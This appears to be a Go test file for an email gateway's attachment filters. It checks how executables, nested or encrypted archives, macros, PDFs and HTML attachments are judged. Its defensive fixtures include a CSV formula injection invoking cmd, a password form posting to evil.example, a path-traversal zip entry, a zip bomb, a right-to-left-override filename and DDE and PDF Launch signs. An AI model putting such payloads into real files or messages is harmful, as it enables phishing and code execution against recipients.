package filters

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/gif"
	"image/png"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"gatepost/gateway"
	"gatepost/internal/filetype"
	"gatepost/internal/unpack"
	"gatepost/internal/unpack/archive"
	pictures "gatepost/internal/unpack/image"
	"gatepost/internal/unpack/office"
	"gatepost/internal/unpack/pdf"
	"gatepost/internal/unpack/tnef"
	"gatepost/internal/unpack/web"
)

// here is an Unpacker that looks into pieces in the process of the test, with the real formats.
type here struct {
	asked  int
	report *unpack.Report // told instead, where it is set
	err    error
}

func (h *here) UnpackShowing(ctx context.Context, pieces []unpack.Piece, look func([][]byte)) (unpack.Report, error) {
	h.asked++
	if h.err != nil || h.report != nil {
		return *cmpOr(h.report), h.err
	}
	w := unpack.NewWalk(ctx, unpack.Limits{Entries: 100, Depth: 4, Octets: 32 << 20, Object: 1 << 20, Show: 1 << 20, Ratio: 200, RatioFrom: 2 << 20}, filetype.ByContent,
		slices.Concat(office.Formats(), pdf.Formats(), web.Formats(), archive.Formats()))
	for _, p := range pieces {
		var b bytes.Buffer
		if _, err := b.ReadFrom(p.Content); err != nil {
			return unpack.Report{}, &unpack.Failure{Kind: unpack.NotRead, Err: err}
		}
		if err := w.Item(p.Item, b.Bytes()); err != nil {
			break
		}
	}
	if all := w.Shown(); look != nil && len(all) > 0 {
		look(all)
	}
	return w.Report(), nil
}

func cmpOr(r *unpack.Report) *unpack.Report {
	if r == nil {
		return &unpack.Report{}
	}
	return r
}

// zipOf makes an archive of names and contents.
func zipOf(t testing.TB, entries ...string) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(entries); i += 2 {
		f, err := w.Create(entries[i])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(entries[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// gzipOf packs content with its name.
func gzipOf(t testing.TB, name, content string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Name = name
	if _, err := w.Write([]byte(content)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// carrying is a message with files: name, media type and content of each.
func carrying(t testing.TB, files ...string) *gateway.Envelope {
	t.Helper()
	var b strings.Builder
	b.WriteString("--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n")
	for i := 0; i < len(files); i += 3 {
		fmt.Fprintf(&b, "--b\r\nContent-Type: %s\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n", files[i+1], files[i])
		for chunk := range slices.Chunk([]byte(base64.StdEncoding.EncodeToString([]byte(files[i+2]))), 76) {
			b.Write(chunk)
			b.WriteString("\r\n")
		}
	}
	b.WriteString("--b--\r\n")
	return dataOf(t, strings.TrimSuffix(with("", "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=b"), "text\r\n")+b.String())
}

// exe is a program, as far as anybody looks.
var exe = "MZ\x90\x00\x03\x00\x00\x00" + strings.Repeat("\x00", 52) + "\x40\x00\x00\x00PE\x00\x00"

const octets = "application/octet-stream"

// TestAttachments shows what each check makes of files, and what that leads to by default.
func TestAttachments(t *testing.T) {
	nested := zipOf(t, "a.zip", zipOf(t, "b/c.exe", exe))
	deep := zipOf(t, "x", "x")
	for range 8 {
		deep = zipOf(t, "in.zip", deep)
	}
	locked := []byte(zipOf(t, "secret.txt", "hello"))
	locked[6] |= 1 // the flag of an encrypted entry, in both headers
	locked[bytes.Index(locked, []byte("PK\x01\x02"))+8] |= 1
	// A document whose entry has another name before its content: a reader of streams sees a script.
	renamed := strings.Replace(zipOf(t, "[Content_Types].xml", "<Types/>", "read.me", "alert()"), "read.me", "evil.js", 1)
	packed := gzipOf(t, "report.txt", "MsgBox 1")
	for name, c := range map[string]struct {
		check    string
		policy   string
		files    []string
		reason   gateway.Reason
		args     string
		outcome  gateway.Outcome
		measures string
		parts    string
		path     string // in the evidence
	}{
		"a program": {check: "type", files: []string{"setup.exe", octets, exe}, reason: gateway.AttachmentType, args: "setup.exe|executable", outcome: gateway.Quarantine, measures: "type=executable extension=exe", parts: "[2]"},
		"a program under another name": {check: "type", files: []string{"photo.jpg", "image/jpeg", exe}, reason: gateway.AttachmentType, args: "photo.jpg|executable", outcome: gateway.Quarantine,
			measures: "type=executable type=image extension=jpg mismatch=content is application/vnd.microsoft.portable-executable", parts: "[2]"},
		"a program in archives": {check: "type", files: []string{"note.txt", "text/plain", "hello", "invoice.zip", "application/zip", nested}, reason: gateway.AttachmentType, args: "c.exe|executable", outcome: gateway.Quarantine,
			measures: "type=text extension=txt type=archive extension=zip type=executable extension=exe", parts: "[3]", path: "invoice.zip > a.zip > b/c.exe: executable"},
		"a script by its name":     {check: "type", files: []string{"order.js", "text/plain", "var a"}, reason: gateway.AttachmentType, args: "order.js|script", outcome: gateway.Quarantine, measures: "type=text type=script extension=js", parts: "[2]"},
		"a name that is allowed":   {check: "type", policy: "allow = [\"*.JS\"]", files: []string{"order.js", "text/plain", "var a"}, measures: "type=text type=script extension=js", parts: "[]"},
		"an extension":             {check: "type", policy: "deny = []\nextensions = [\"one\"]", files: []string{"a.one", octets, "x"}, reason: gateway.AttachmentType, args: "a.one|one", outcome: gateway.Quarantine, measures: "type=text type=onenote extension=one", parts: "[2]"},
		"refused":                  {check: "type", policy: "action = \"reject\"", files: []string{"setup.exe", octets, exe}, reason: gateway.AttachmentType, args: "setup.exe|executable", outcome: gateway.Reject, measures: "type=executable extension=exe", parts: "[2]"},
		"documents":                {check: "type", files: []string{"a.pdf", "application/pdf", "%PDF-1.4\n", "b.csv", "text/csv", "a,b\r\nc,d\r\n"}, measures: "type=pdf extension=pdf type=text extension=csv", parts: "[]"},
		"a double extension":       {check: "name", files: []string{"invoice.pdf.exe", octets, exe}, reason: gateway.AttachmentName, args: "invoice.pdf.exe|double_extension", outcome: gateway.Quarantine, measures: "trick=double_extension", parts: "[2]"},
		"a trick in an archive":    {check: "name", files: []string{"a.zip", "application/zip", zipOf(t, "annex\u202efdp.exe", exe)}, reason: gateway.AttachmentName, args: "annex???fdp.exe|turned", outcome: gateway.Quarantine, measures: "trick=turned", parts: "[2]"},
		"a pattern":                {check: "name", policy: "deny = [\"Invoice*.zip\"]", files: []string{"INVOICE-1.zip", "application/zip", zipOf(t, "a", "b")}, reason: gateway.AttachmentName, args: "INVOICE-1.zip|a name that is not taken", outcome: gateway.Quarantine, parts: "[2]"},
		"a second name in gz":      {check: "type", files: []string{"evil.vbs.gz", "application/gzip", packed}, reason: gateway.AttachmentType, args: "report.txt|script", outcome: gateway.Quarantine, parts: "[2]", path: "evil.vbs.gz > report.txt (or evil.vbs): script"},
		"a pattern of a second":    {check: "name", policy: "deny = [\"evil*\"]", files: []string{"evil.vbs.gz", "application/gzip", packed}, reason: gateway.AttachmentName, args: "evil.vbs.gz|", outcome: gateway.Quarantine, parts: "[2]"},
		"a second is no exception": {check: "type", policy: "allow = [\"report.txt\"]", files: []string{"evil.vbs.gz", "application/gzip", packed}, reason: gateway.AttachmentType, args: "report.txt|script", outcome: gateway.Quarantine, parts: "[2]"},
		"a second in a document":   {check: "type", files: []string{"order.zip", "application/zip", renamed}, reason: gateway.AttachmentType, args: "evil.js|script", outcome: gateway.Quarantine, parts: "[2]"},
		"it is told":               {check: "archive", files: []string{"order.zip", "application/zip", renamed}, measures: "name_twice=in the directory read.me, before the content evil.js", parts: "[]"},
		"encrypted":                {check: "encrypted", files: []string{"s.zip", "application/zip", string(locked)}, reason: gateway.AttachmentEncrypted, args: "secret.txt|", outcome: gateway.Quarantine, parts: "[2]"},
		"encrypted and allowed":    {check: "encrypted", policy: "allow = [\"s.zip\"]", files: []string{"s.zip", "application/zip", string(locked)}, parts: "[]"},
		"not encrypted":            {check: "encrypted", files: []string{"s.zip", "application/zip", nested}, parts: "[]"},
		"too deep":                 {check: "archive", files: []string{"d.zip", "application/zip", deep}, reason: gateway.AttachmentLimits, args: "in.zip|depth", outcome: gateway.Quarantine, measures: "limit=depth", parts: "[2]"},
		"a bomb":                   {check: "archive", files: []string{"d.zip", "application/zip", zipOf(t, "zeros", strings.Repeat("\x00", 8<<20))}, reason: gateway.AttachmentLimits, args: "zeros|ratio", outcome: gateway.Quarantine, measures: "limit=ratio", parts: "[2]"},
		"a path that leaves":       {check: "archive", files: []string{"d.zip", "application/zip", zipOf(t, "../../etc/cron.d/x", "x")}, reason: gateway.AttachmentPath, args: "x|", outcome: gateway.Quarantine, parts: "[2]"},
		"a broken archive":         {check: "archive", files: []string{"d.zip", "application/zip", nested[:len(nested)/2]}, reason: gateway.AttachmentBroken, args: "d.zip|zip: ", measures: "broken=", parts: "[2]"},
		"a picture that is a zip":  {check: "archive", files: []string{"p.gif", "image/gif", "GIF89a\x01\x00\x01\x00\x00\x00\x00" + strings.Repeat("x", 200) + zipOf(t, "a.txt", "x")}, measures: "trailing=", parts: "[]"},
		"a formula in a table":     {check: "macro", files: []string{"a.csv", "text/csv", "name,value\r\nx,\"=SUM(1,2)*cmd|' /C calc'!A0\"\r\n"}, reason: gateway.AttachmentAutoExec, args: "a.csv|", outcome: gateway.Quarantine, parts: "[2]"},
		"a form for a password":    {check: "active", files: []string{"login.html", "text/html", "<html><form action=https://evil.example/x><input type=password name=p></form></html>"}, reason: gateway.AttachmentForm, args: "login.html|", outcome: gateway.Quarantine, parts: "[2]"},
		"script in a page":         {check: "active", files: []string{"a.html", "text/html", "<html><script>document.title='x'</script></html>"}, reason: gateway.AttachmentScript, args: "a.html|", measures: "script=", parts: "[2]"},
	} {
		t.Run(name, func(t *testing.T) {
			d := &Deps{}
			pl := build(t, "[checks.attachments."+c.check+"]\n"+c.policy+"\n", d)
			f, v := judged(t, d, pl, "attachments."+c.check, carrying(t, c.files...))
			var measures []string
			for _, m := range f.Measures {
				measures = append(measures, m.Name+"="+m.Text)
			}
			want := gateway.Pass
			if c.reason != "" {
				want = gateway.Fail
			}
			if f.Result != want || f.Reason != c.reason || v.Outcome != c.outcome || fmt.Sprint(f.Parts) != c.parts {
				t.Errorf("%s %q %v, parts %v: %+v", f.Result, f.Reason, v.Outcome, f.Parts, f)
			}
			if got := strings.Join(f.Args, "|"); !strings.HasPrefix(got, c.args) || !strings.HasPrefix(strings.Join(measures, " "), c.measures) {
				t.Errorf("args %q, measures %q", got, measures)
			}
			if c.path != "" && !slices.ContainsFunc(f.Evidence, func(e gateway.Evidence) bool { return e.Text == c.path }) {
				t.Errorf("evidence %v", f.Evidence)
			}
		})
	}
}

// TestAttachmentSigns shows what signs of documents lead to, whichever format told them.
func TestAttachmentSigns(t *testing.T) {
	const doc = "application/msword"
	sign := func(k unpack.Kind, text string) unpack.Sign { return unpack.Sign{Kind: k, Text: text} }
	for name, c := range map[string]struct {
		check, media string
		signs        []unpack.Sign
		reason       gateway.Reason
		outcome      gateway.Outcome
		score        float64
	}{
		"macros":               {"macro", doc, []unpack.Sign{sign(unpack.Macro, "VBA project")}, gateway.AttachmentMacro, gateway.Accept, 2},
		"macros that run":      {"macro", doc, []unpack.Sign{sign(unpack.Macro, "m"), sign(unpack.AutoExec, "AutoOpen")}, gateway.AttachmentMacro, gateway.Accept, 4},
		"macros that do":       {"macro", doc, []unpack.Sign{sign(unpack.Macro, "m"), sign(unpack.AutoExec, "AutoOpen"), sign(unpack.MacroSuspect, "Shell")}, gateway.AttachmentAutoExec, gateway.Quarantine, 6},
		"a field":              {"macro", doc, []unpack.Sign{sign(unpack.DDE, "DDEAUTO cmd")}, gateway.AttachmentAutoExec, gateway.Quarantine, 0},
		"equation editor":      {"macro", doc, []unpack.Sign{sign(unpack.Equation, "Equation.3"), sign(unpack.Embedded, "an object: x")}, gateway.AttachmentAutoExec, gateway.Quarantine, 2},
		"a template elsewhere": {"macro", doc, []unpack.Sign{sign(unpack.RemoteContent, "attachedTemplate: https://evil.example/t.dotm")}, gateway.AttachmentRemote, gateway.Quarantine, 0},
		"a workbook elsewhere": {"macro", doc, []unpack.Sign{sign(unpack.RemoteContent, `linked workbook: \\server\a.xlsx`)}, "", gateway.Accept, 1},
		"an object":            {"macro", doc, []unpack.Sign{sign(unpack.Embedded, "an object: Package")}, gateway.AttachmentEmbedded, gateway.Accept, 2},
		"a sheet in a text":    {"macro", doc, []unpack.Sign{sign(unpack.Embedded, "a document: x")}, "", gateway.Accept, 0},
		"a file in a PDF":      {"macro", "application/pdf", []unpack.Sign{sign(unpack.Embedded, "a file: factur-x.xml")}, "", gateway.Accept, 0},
		"PDF with a password":  {"encrypted", "application/pdf", []unpack.Sign{sign(unpack.Encrypted, "document")}, "", gateway.Accept, 1},
		"PDF that forbids":     {"encrypted", "application/pdf", []unpack.Sign{sign(unpack.OwnerPassword, "")}, "", gateway.Accept, 0},
		"a known password":     {"encrypted", doc, []unpack.Sign{sign(unpack.OpenPassword, "VelvetSweatshop")}, "", gateway.Accept, 2},
		"an open password":     {"encrypted", doc, []unpack.Sign{sign(unpack.Encrypted, "document")}, gateway.AttachmentEncrypted, gateway.Quarantine, 0},
		"PDF JavaScript":       {"active", "application/pdf", []unpack.Sign{sign(unpack.Script, "JavaScript app.alert"), sign(unpack.Script, "runs by itself")}, gateway.AttachmentScript, gateway.Accept, 1.5},
		"PDF launch":           {"active", "application/pdf", []unpack.Sign{sign(unpack.Launch, "Launch cmd.exe")}, gateway.AttachmentLaunch, gateway.Quarantine, 0},
		"PDF form":             {"active", "application/pdf", []unpack.Sign{sign(unpack.Launch, "SubmitForm https://x.example/")}, "", gateway.Accept, 0.5},
		"smuggling":            {"active", "text/html", []unpack.Sign{sign(unpack.Script, "script"), sign(unpack.Smuggling, "msSaveBlob")}, gateway.AttachmentSmuggling, gateway.Quarantine, 3},
		"a form":               {"active", "text/html", []unpack.Sign{sign(unpack.Form, "is sent to https://x.example/")}, "", gateway.Accept, 1.5},
		"too big inside":       {"archive", "application/zip", []unpack.Sign{sign(unpack.Unread, "")}, gateway.AttachmentLimits, gateway.Quarantine, 0},
		"a film too big":       {"archive", "video/mp4", []unpack.Sign{sign(unpack.Unread, "")}, "", gateway.Accept, 0},
		"a cut picture":        {"archive", "image/png", []unpack.Sign{sign(unpack.Broken, "png: cut")}, "", gateway.Accept, 0.5},
	} {
		d := &Deps{Unpack: &here{report: &unpack.Report{Objects: []unpack.Object{{Parent: -1, Part: 2, Type: c.media, Name: "file", Signs: c.signs}}}}}
		pl := build(t, "", d)
		f, v := judged(t, d, pl, "attachments."+c.check, carrying(t, "file", octets, "\x00\x01\x02"))
		if f.Reason != c.reason || v.Outcome != c.outcome || v.Score != c.score {
			t.Errorf("%s: %q %v, %v points: %+v", name, f.Reason, v.Outcome, v.Score, f)
		}
	}
}

// TestAttachmentsUnknown: what the process could not tell is never taken for nothing; what names alone tell stands.
func TestAttachmentsUnknown(t *testing.T) {
	for _, c := range []struct {
		kind    unpack.FailureKind
		reason  gateway.Reason
		outcome gateway.Outcome
	}{{unpack.Crashed, gateway.UnpackFailed, gateway.Quarantine}, {unpack.Hung, gateway.UnpackFailed, gateway.Quarantine}, {unpack.Garbage, gateway.UnpackFailed, gateway.Quarantine},
		{unpack.Busy, gateway.ScannerFailed, gateway.Defer}, {unpack.NotStarted, gateway.ScannerFailed, gateway.Defer}, {unpack.NotRead, gateway.ScannerFailed, gateway.Defer}} {
		for _, check := range []string{"type", "name", "encrypted", "archive", "macro", "active"} {
			d := &Deps{Unpack: &here{err: &unpack.Failure{Kind: c.kind, Err: errors.New("x")}}}
			pl := build(t, "", d)
			f, v := judged(t, d, pl, "attachments."+check, carrying(t, "a.zip", "application/zip", "PK\x03\x04xxxxxxxxxxxxxxxxxxxxxxxxxx"))
			if f.Result != gateway.Unknown || f.Reason != c.reason || v.Outcome != c.outcome {
				t.Errorf("%s %s: %+v %v", check, c.kind, f, v.Outcome)
			}
		}
		d := &Deps{Unpack: &here{err: &unpack.Failure{Kind: c.kind, Err: errors.New("x")}}}
		if f, _ := judged(t, d, build(t, "", d), "attachments.type", carrying(t, "a.exe", octets, exe)); f.Reason != gateway.AttachmentType {
			t.Errorf("%s: %+v", c.kind, f)
		}
	}
}

// TestUnpackedOnce: a message is looked into once for all checks, only where there is something to look into, and never its text.
func TestUnpackedOnce(t *testing.T) {
	const point = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff\x21\xf9\x04\x01\x00\x00\x00\x00\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b"
	for name, c := range map[string]struct {
		e     *gateway.Envelope
		asked int
	}{
		"text":                {dataOf(t, with("")), 0},
		"HTML":                {dataOf(t, strings.TrimSuffix(with("", "MIME-Version: 1.0", "Content-Type: text/html"), "text\r\n")+"<html><script>x</script></html>\r\n"), 0},
		"a text file":         {carrying(t, "a.txt", "text/plain", "hello"), 0},
		"a table":             {carrying(t, "a.csv", "text/plain", "1,2\r\n"), 1},
		"a table by its type": {carrying(t, "a", "text/csv", "1,2\r\n"), 1},
		"a film":              {carrying(t, "a.mp4", "video/mp4", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"), 0},
		"an empty file":       {carrying(t, "a.zip", "application/zip", ""), 0},
		"an archive":          {carrying(t, "a.zip", "application/zip", zipOf(t, "a", "b")), 1},
		"what nobody knows":   {carrying(t, "a.dat", octets, "\x81\x02\x93\x00\xf0\x01\x00\x7e\x00\x03"), 1},
		"the body is a file":  {dataOf(t, strings.TrimSuffix(with("", "MIME-Version: 1.0", "Content-Type: application/zip"), "text\r\n")+zipOf(t, "a", "b")), 1},
		"a point":             {carrying(t, "a.gif", "image/gif", point), 0},
		"a point, no name":    {carrying(t, "", "image/gif", point), 0},
		"a point as a page":   {carrying(t, "a.html", "image/gif", point), 1},
		"a point as what":     {carrying(t, "a.gif", "text/html", point), 1},
		"a zip behind it":     {carrying(t, "a.gif", "image/gif", point+zipOf(t, "a", "b")), 1},
		"a cut one":           {carrying(t, "a.gif", "image/gif", point[:30]), 1},
		"two":                 {carrying(t, "a.zip", "application/zip", zipOf(t, "a", "b"), "b.html", "text/html", "<html>"), 1},
	} {
		h := &here{}
		d := &Deps{Unpack: h}
		pl := build(t, clamOff+spamOff, d)
		v, _ := judge(t, d, pl, c.e, "attachments.type")
		if h.asked != c.asked || v.Outcome.Refuses() {
			t.Errorf("%s: asked %d times; %v", name, h.asked, v.Explain())
		}
	}
}

// TestSmallPicturesHideNothing: in what is taken for a small picture the process would have found nothing: pictures, and what
// chance makes of them, looked into by every format.
func TestSmallPicturesHideNothing(t *testing.T) {
	palette := color.Palette{color.Black, color.White, color.Transparent}
	var seeds [][]byte
	for _, side := range [][2]int{{1, 1}, {16, 16}, {20, 300}, {64, 8}} {
		m := image.NewPaletted(image.Rect(0, 0, side[0], side[1]), palette)
		for i := range m.Pix {
			m.Pix[i] = byte(i*i) % 3
		}
		var p, g bytes.Buffer
		if err := errors.Join(png.Encode(&p, m), gif.Encode(&g, m, nil)); err != nil {
			t.Fatal(err)
		}
		seeds = append(seeds, p.Bytes(), g.Bytes())
	}
	all := slices.Concat(office.Formats(), pdf.Formats(), tnef.Formats(), web.Formats(), pictures.Formats(), archive.Formats())
	rng, small := rand.New(rand.NewPCG(1, 2)), 0
	for n := range 4000 {
		b := slices.Clone(seeds[n%len(seeds)])
		if n >= len(seeds) {
			at := rng.IntN(len(b))
			switch rng.IntN(3) {
			case 0:
				b[at] = byte(rng.Uint32())
			case 1:
				b = slices.Insert(b, at, []byte(zipOf(t, "a", "b"))...)
			case 2:
				b = slices.Delete(b, at, min(len(b), at+rng.IntN(4)))
			}
		}
		if !filetype.OnlySmallPicture(b) {
			continue
		}
		small++
		w := unpack.NewWalk(t.Context(), unpack.Limits{Entries: 100, Depth: 4, Octets: 1 << 20, Object: 1 << 20}, filetype.ByContent, all)
		if err := w.Item(unpack.Item{}, b); err != nil {
			t.Fatal(err)
		}
		if o := w.Report().Objects; len(o) != 1 || len(o[0].Links) > 0 || slices.ContainsFunc(o[0].Signs, func(s unpack.Sign) bool { return s.Kind != unpack.Unseen }) {
			t.Fatalf("%q holds %+v", b, o)
		}
	}
	if small < 100 {
		t.Errorf("%d small pictures", small)
	}
}

// BenchmarkNoAttachment is what the checks cost a message that has none.
func BenchmarkNoAttachment(b *testing.B) {
	d := &Deps{}
	pl := build(b, "", d)
	e := dataOf(b, with(""))
	in := input(from("192.0.2.1", "good.example"), e)
	in.Session.Snapshot = &gateway.Snapshot{Policy: d.Policy, Pipeline: pl}
	tree(in)
	var checks []gateway.Check
	for _, row := range pl.Rows[gateway.Data] {
		for _, c := range row.Checks {
			if strings.HasPrefix(c.Name, "attachments.") {
				checks = append(checks, c)
			}
		}
	}
	b.ReportAllocs()
	for b.Loop() {
		for _, c := range checks {
			if f := c.Run(context.Background(), in); f.Result != gateway.Pass {
				b.Fatal(f)
			}
		}
	}
}

// attachmentsOff is a policy without these checks.
func attachmentsOff() string {
	var b strings.Builder
	for _, d := range Definitions() {
		if strings.HasPrefix(d.Name, "attachments.") {
			fmt.Fprintf(&b, "[checks.%s]\naction = \"off\"\n", d.Name)
		}
	}
	return b.String()
}
